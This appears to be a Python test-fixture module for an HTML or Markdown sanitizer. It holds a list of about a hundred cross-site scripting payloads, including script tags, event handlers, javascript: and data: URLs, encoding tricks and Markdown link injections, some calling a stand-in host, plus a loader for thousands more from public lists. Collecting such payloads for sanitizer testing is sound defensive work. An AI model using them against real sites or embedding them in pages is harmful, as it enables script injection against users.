"""Attempts at script in a page, of the kinds that the OWASP filter evasion sheet and html5sec.org collect.

`public_payloads()` are those that others have collected (public_payloads/README.md).
"""

import gzip
import json
from functools import cache
from pathlib import Path

FOLDER = Path(__file__).parent / "public_payloads"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt SrC=//h.org/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src='javascript:alert(1)'>",
    "<img src=/a.png onload=alert(1)//",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import'http://h.org/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style=position:fixed>x</p>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<body onload=alert(1)>",
    "<base href='https://h.org/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//h.org/x.css'>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/\\h.org'>x</a>",
    "<a href=x onclick=alert(1) onmouseover='alert(1)'>x</a>",
    "<a target=_blank href=//h.org>x</a>",
    "<b onclick=alert(1) id=x name=y class=z tabindex=1 contenteditable>x</b>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>x",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "<isindex action=javascript:alert(1) type=image>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#1;javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](/a "onmouseover=alert(1)")',
    "[x](/a '\"><script>alert(1)</script>')",
    '[x](https://h.org/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<https://h.org/"onclick=alert(1)>',
    "https://h.org/'onclick='alert(1)",
    '![x" onerror="alert(1)](/a.png)',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![<img src=x onerror=alert(1)>](/a.png)",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "$\\text{<script>alert(1)</script>}$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "[[a|<script>alert(1)</script>]]",
    "[^<script>]: x\n\n[^<script>]",
    '[^"onclick=x]: y\n\nz[^"onclick=x]',
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<table><tr><td><form><input></td></tr></table>",
    "<ul><li><style>*{}</style></li></ul>",
    "<p><a href=x><a href='javascript:alert(1)'>x</a></a></p>",
    "<b><p></b><script>alert(1)</script></p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div>&lt;script&gt;alert(1)&lt;/script&gt;</div>",
    "\\<script\\>alert(1)\\</script\\>",
]


@cache
def public_payloads() -> tuple[str, ...]:
    """Some eight thousand, each once."""
    return tuple(
        text for path in sorted(FOLDER.glob("*.gz")) for text in payloads_of(path.name.split(".")[0])
    )


@cache
def payloads_of(name: str) -> tuple[str, ...]:
    """Those of one list, such as "naughty-strings"."""
    lines = gzip.decompress((FOLDER / f"{name}.jsonl.gz").read_bytes()).decode("ascii").splitlines()
    return tuple(map(json.loads, lines))
